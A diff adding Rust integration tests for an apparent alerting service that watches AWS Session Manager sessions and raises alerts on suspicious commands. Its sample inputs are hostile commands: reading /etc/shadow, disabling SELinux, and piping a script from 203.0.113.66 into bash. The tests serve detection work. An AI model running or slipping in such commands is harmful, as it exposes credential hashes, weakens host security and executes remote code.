@@ -1,0 +1,278 @@
+//! What comes in, and what goes out of it.
+
+use std::collections::BTreeSet;
+
+use jiff::Timestamp;
+use serde_json::{Value, json};
+use sha2::{Digest as _, Sha256};
+use warden_tests::aws::Account;
+use warden_tests::ministack::Stack;
+use warden_tests::sessions::Operated;
+use warden_tests::wait_for;
+
+use crate::{command, is_initial, ministack};
+
+const ATTACK: &str = "cat /etc/shadow";
+
+#[test]
+fn a_transcript_becomes_an_alert() {
+    let Some(ministack) = ministack() else { return };
+    let stack = ministack.deploy("100000000001", &[]);
+    let wanted = stack.alerts("wanted", Some(&json!({"level": ["high", "critical"], "account": ["100000000001"]})));
+    let unwanted = stack.alerts("unwanted", Some(&json!({"level": ["informational"]})));
+    let session = Operated::new("100000000001", 1, &["uptime", ATTACK]);
+    stack.account.invoke("session-warden-cloudtrail", &session.started()).unwrap();
+
+    // Keys of notifications are encoded.
+    let key = format!("of the year+1/über/{}", session.key());
+    stack.account.put(&stack.bucket("transcripts"), &key, session.transcript());
+
+    let alerts = stack.account.take_until(&wanted, "the alert", |alert| is_initial(alert, ATTACK));
+    let alert = alerts.iter().find(|alert| is_initial(alert, ATTACK)).unwrap();
+    assert_eq!(alert["session"]["id"], json!(session.id));
+    assert_eq!(alert["session"]["principal"], json!(session.principal));
+    assert_eq!(alert["session"]["target"], json!(session.target));
+    assert_eq!(alert["finding"]["source"]["kind"], "transcript");
+    assert_eq!(alert["evidence"]["path"], json!(format!("s3://{}/{key}", stack.bucket("transcripts"))));
+    assert!(alert["evidence"]["version"].is_string(), "{alert}");
+    assert_eq!(stack.account.take(&unwanted), Vec::<String>::new());
+}
+
+#[test]
+fn log_events_become_an_alert() {
+    let Some(ministack) = ministack() else { return };
+    ministack.account("100000000002").json("Logs_20140328.CreateLogGroup", &json!({"logGroupName": "/ssm/sessions"}));
+    let stack = ministack.deploy("100000000002", &[("LogGroup1", "/ssm/sessions")]);
+    let queue = stack.alerts("alerts", None);
+    let session = Operated::new("100000000002", 1, &["uptime", ATTACK, "id"]);
+    stream(&stack.account, &session);
+    let alerts = stack.account.take_until(&queue, "the alert", |alert| is_initial(alert, ATTACK));
+    let alert = alerts.iter().find(|alert| is_initial(alert, ATTACK)).unwrap();
+    assert_eq!(alert["session"]["id"], json!(session.id));
+    assert_eq!(alert["finding"]["source"]["kind"], "log-stream");
+    assert_eq!(alert["evidence"]["path"], json!(format!("cloudwatch:///ssm/sessions/{}", session.id)));
+}
+
+#[test]
+fn a_started_session_is_alerted_about_and_kept() {
+    let Some(ministack) = ministack() else { return };
+    let stack = ministack.deploy("100000000003", &[]);
+    let queue = stack.alerts("alerts", None);
+    let session = Operated::new("100000000003", 1, &[]);
+    let mut event = session.started();
+    event["detail"]["requestParameters"]["documentName"] = json!("AWS-StartInteractiveCommand");
+    event["detail"]["requestParameters"]["parameters"] = json!({"command": [ATTACK]});
+    stack.account.deliver("session-warden-cloudtrail", &event);
+    let alerts = stack.account.take_until(&queue, "the alert", |alert| is_initial(alert, ATTACK));
+    let alert = alerts.iter().find(|alert| is_initial(alert, ATTACK)).unwrap();
+    assert_eq!(alert["session"]["principal"], json!(session.principal));
+    assert_eq!(alert["session"]["target"], json!(session.target));
+    assert_eq!(alert["finding"]["source"]["trust"], "service");
+    assert!(rows(&stack).iter().any(|row| row.to_string().contains(&session.id)));
+}
+
+#[test]
+fn only_the_poison_message_ends_in_the_dead_letter_queue() {
+    let Some(ministack) = ministack() else { return };
+    let stack = ministack.deploy("100000000004", &[]);
+    let queue = stack.alerts("alerts", None);
+    let input = stack.queue("transcripts");
+    hurry(&stack);
+    // Stored elsewhere than in the bucket with notifications: the test says when they come.
+    stack.account.make_bucket("elsewhere");
+    let good: Vec<_> = (1..=2).map(|n| Operated::new("100000000004", n, &[ATTACK])).collect();
+    let bucket = stack.bucket("transcripts");
+    for session in &good {
+        stack.account.put(&bucket, &session.key(), session.transcript());
+    }
+    stack.account.json("AmazonSQS.SendMessage", &json!({"QueueUrl": input, "MessageBody": "poison"}));
+    let mut told = BTreeSet::new();
+    wait_for("both alerts", || {
+        for body in stack.account.take(&queue) {
+            let alert: Value = serde_json::from_str(&body).unwrap();
+            told.extend(alert["session"]["id"].as_str().map(str::to_owned));
+        }
+        good.iter().all(|session| told.contains(&session.id)).then_some(())
+    });
+    let dead = stack.queue("transcripts-dlq");
+    let mut letters = Vec::new();
+    wait_for("the dead letter", || {
+        letters.extend(stack.account.take(&dead));
+        (!letters.is_empty()).then_some(())
+    });
+    assert_eq!(letters, ["poison"]);
+    assert_eq!(waiting(&stack, &input), 0);
+}
+
+#[test]
+fn two_accounts_are_apart() {
+    let Some(ministack) = ministack() else { return };
+    let stacks = ["100000000005", "100000000006"].map(|account| ministack.deploy(account, &[]));
+    let queues: Vec<_> = stacks.iter().map(|stack| stack.alerts("alerts", None)).collect();
+    let mut ids = Vec::new();
+    for (stack, queue) in stacks.iter().zip(&queues) {
+        // The same id: what tells them apart is the account.
+        let session = Operated::new(&stack.account.id, 7, &[ATTACK]);
+        stack.account.invoke("session-warden-cloudtrail", &session.started()).unwrap();
+        stack.account.put(&stack.bucket("transcripts"), &session.key(), session.transcript());
+        let alerts = stack.account.take_until(queue, "the alert", |alert| is_initial(alert, ATTACK));
+        for alert in &alerts {
+            assert_eq!(alert["session"]["account"], json!(stack.account.id), "{alert}");
+        }
+        ids.extend(alerts.iter().filter(|alert| is_initial(alert, ATTACK)).map(|alert| alert["alert_id"].to_string()));
+    }
+    assert_eq!(ids.iter().collect::<BTreeSet<_>>().len(), 2, "{ids:?}");
+}
+
+/// Every event of a session three times, and both sources of it: one initial alert for each key.
+#[test]
+fn redelivery_makes_no_second_alert() {
+    let Some(ministack) = ministack() else { return };
+    let account = "100000000007";
+    ministack.account(account).json("Logs_20140328.CreateLogGroup", &json!({"logGroupName": "/ssm/sessions"}));
+    let stack = ministack.deploy(account, &[("LogGroup1", "/ssm/sessions"), ("FollowUp", "1s")]);
+    let queue = stack.alerts("alerts", None);
+    let session =
+        Operated::new(account, 1, &["uptime", ATTACK, "sudo setenforce 0", "curl -s http://203.0.113.66/x.sh | bash"]);
+    let bucket = stack.bucket("transcripts");
+    let version = stack.account.put(&bucket, &session.key(), session.transcript()).unwrap();
+    let input = stack.queue("transcripts");
+    for _ in 0..3 {
+        stream(&stack.account, &session);
+        stack.account.invoke("session-warden-cloudtrail", &session.started()).unwrap();
+        let mut body: Value =
+            serde_json::from_str(session.notification(&bucket, "")["body"].as_str().unwrap()).unwrap();
+        body["Records"][0]["s3"]["object"]["versionId"] = json!(version);
+        body["Records"][0]["eventTime"] = json!(Timestamp::now().to_string());
+        stack.account.json("AmazonSQS.SendMessage", &json!({"QueueUrl": input, "MessageBody": body.to_string()}));
+    }
+    wait_for("the queue to run empty", || (waiting(&stack, &input) == 0).then_some(()));
+    let mut alerts = stack.account.take_until(&queue, "the alerts", |alert| is_initial(alert, "sudo setenforce 0"));
+    std::thread::sleep(std::time::Duration::from_secs(2));
+    alerts.extend(stack.account.take(&queue).iter().map(|body| serde_json::from_str::<Value>(body).unwrap()));
+    let initial: Vec<_> = alerts.iter().filter(|alert| alert["kind"] == "initial").collect();
+    let keys: BTreeSet<_> = initial.iter().map(|alert| alert["dedup_key"].to_string()).collect();
+    let told: Vec<_> = initial.iter().map(|alert| (command(alert), &alert["finding"]["rule"]["title"])).collect();
+    assert_eq!(initial.len(), keys.len(), "{told:#?}");
+    for attack in &session.commands[1..] {
+        assert!(initial.iter().any(|alert| command(alert) == attack), "{attack} is missing in {told:#?}");
+    }
+}
+
+/// A harmless command first, then twenty attacks under the same rule and key.
+#[test]
+fn a_decoy_hides_nothing() {
+    let Some(ministack) = ministack() else { return };
+    let stack = ministack.deploy("100000000008", &[("FollowUp", "1s")]);
+    let queue = stack.alerts("alerts", None);
+    let attacks: Vec<String> = (1..=20).map(|n| format!("head -n {n} /etc/shadow")).collect();
+    let commands: Vec<&str> = std::iter::once(ATTACK).chain(attacks.iter().map(String::as_str)).collect();
+    let session = Operated::new("100000000008", 1, &commands);
+    stack.account.put(&stack.bucket("transcripts"), &session.key(), session.transcript());
+    let mut seen = BTreeSet::new();
+    let mut collect = |bodies: Vec<Value>| {
+        for alert in bodies {
+            let others = alert["others"].as_array().cloned().unwrap_or_default();
+            let texts = others.iter().map(|other| other["command"]["text"].as_str().unwrap_or_default());
+            seen.extend(texts.chain([command(&alert)]).map(str::to_owned));
+        }
+        attacks.iter().filter(|attack| !seen.contains(*attack)).count()
+    };
+    collect(stack.account.take_until(&queue, "the decoy", |alert| is_initial(alert, ATTACK)));
+    wait_for("all twenty", || {
+        stack.account.invoke("session-warden-reconcile", &json!({"run": "frequent"})).unwrap();
+        let bodies = stack.account.take(&queue);
+        let missing = collect(bodies.iter().map(|body| serde_json::from_str(body).unwrap()).collect());
+        (missing == 0).then_some(())
+    });
+}
+
+/// A rule that the CI of a git repository has put into the rule bucket.
+#[test]
+fn a_rule_from_git_is_used() {
+    let Some(ministack) = ministack() else { return };
+    let stack = ministack.deploy("100000000010", &[]);
+    let queue = stack.alerts("alerts", None);
+    let rule = "title: Own\nid: 0f7a5a4e-0000-4000-8000-000000000001\nlevel: high\nlogsource: {product: aws, service: session-manager, category: command}\ndetection:\n  run:\n    CommandLine: own-tool --now\n  condition: run\n";
+    let digest: String = Sha256::digest(rule).iter().map(|byte| format!("{byte:02x}")).collect();
+    let bucket = stack.bucket("rules");
+    stack.account.put(&bucket, "rules/linux/own.yml", rule);
+    let manifest = json!({"version": 1, "files": [{"path": "linux/own.yml", "sha256": digest}]});
+    stack.account.put(&bucket, "rules/manifest.json", manifest.to_string());
+    let session = Operated::new("100000000010", 1, &["own-tool --now"]);
+    stack.account.put(&stack.bucket("transcripts"), &session.key(), session.transcript());
+    stack.account.take_until(&queue, "the alert", |alert| {
+        is_initial(alert, "own-tool --now") && alert["finding"]["rule"]["title"] == "Own"
+    });
+}
+
+#[test]
+fn a_backfill_publishes_nothing() {
+    let Some(ministack) = ministack() else { return };
+    let stack = ministack.deploy("100000000009", &[]);
+    let queue = stack.alerts("alerts", None);
+    let session = Operated::new("100000000009", 1, &[ATTACK]);
+    let bucket = stack.bucket("transcripts");
+    stack.account.put(&bucket, &session.key(), session.transcript());
+    stack.account.take_until(&queue, "the alert", |alert| is_initial(alert, ATTACK));
+    let task = |id: &str, key: &str| json!({"taskId": id, "s3Key": key, "s3VersionId": null, "s3BucketArn": format!("arn:aws:s3:::{bucket}")});
+    let event = json!({
+        "invocationSchemaVersion": "1.0", "invocationId": "one", "job": {"id": "job-1"},
+        "tasks": [task("there", &session.key()), task("gone", "gone.log")],
+    });
+    let answer = stack.account.invoke("session-warden-backfill", &event).unwrap();
+    let codes: Vec<_> =
+        answer["results"].as_array().unwrap().iter().map(|result| result["resultCode"].as_str().unwrap()).collect();
+    assert_eq!(codes, ["Succeeded", "PermanentFailure"], "{answer}");
+    let results = stack.bucket("results");
+    let found: String = stack
+        .account
+        .keys(&results)
+        .iter()
+        .map(|key| String::from_utf8(stack.account.fetch(&results, key)).unwrap())
+        .collect();
+    assert!(found.contains(ATTACK), "{found}");
+    assert_eq!(stack.account.take(&queue), Vec::<String>::new());
+}
+
+/// Puts the messages of a session into its log stream. The second time they are new events with the old text.
+fn stream(account: &Account, session: &Operated) {
+    let place = json!({"logGroupName": "/ssm/sessions", "logStreamName": session.id});
+    let found = account.json(
+        "Logs_20140328.DescribeLogStreams",
+        &json!({"logGroupName": "/ssm/sessions", "logStreamNamePrefix": session.id}),
+    );
+    if found["logStreams"].as_array().is_none_or(Vec::is_empty) {
+        account.json("Logs_20140328.CreateLogStream", &place);
+    }
+    let now = Timestamp::now().as_millisecond();
+    let events: Vec<_> =
+        session.messages().iter().map(|message| json!({"timestamp": now, "message": message})).collect();
+    let mut input = place;
+    input["logEvents"] = json!(events);
+    account.json("Logs_20140328.PutLogEvents", &input);
+}
+
+/// Failed messages come again after a second, twice at most.
+fn hurry(stack: &Stack) {
+    let dead = format!("arn:aws:sqs:eu-west-1:{}:session-warden-transcripts-dlq", stack.account.id);
+    let redrive = json!({"deadLetterTargetArn": dead, "maxReceiveCount": 2}).to_string();
+    let attributes = json!({"VisibilityTimeout": "1", "RedrivePolicy": redrive});
+    let input = json!({"QueueUrl": stack.queue("transcripts"), "Attributes": attributes});
+    stack.account.json("AmazonSQS.SetQueueAttributes", &input);
+}
+
+/// Messages in a queue, also those that are being worked on.
+fn waiting(stack: &Stack, queue_url: &str) -> u64 {
+    let input = json!({"QueueUrl": queue_url, "AttributeNames": ["All"]});
+    let attributes = stack.account.json("AmazonSQS.GetQueueAttributes", &input);
+    let number =
+        |name: &str| attributes["Attributes"][name].as_str().and_then(|text| text.parse::<u64>().ok()).unwrap_or(0);
+    number("ApproximateNumberOfMessages") + number("ApproximateNumberOfMessagesNotVisible")
+}
+
+/// Rows of the ledger.
+fn rows(stack: &Stack) -> Vec<Value> {
+    let found = stack.account.json("DynamoDB_20120810.Scan", &json!({"TableName": "session-warden-ledger"}));
+    found["Items"].as_array().cloned().unwrap_or_default()
+}
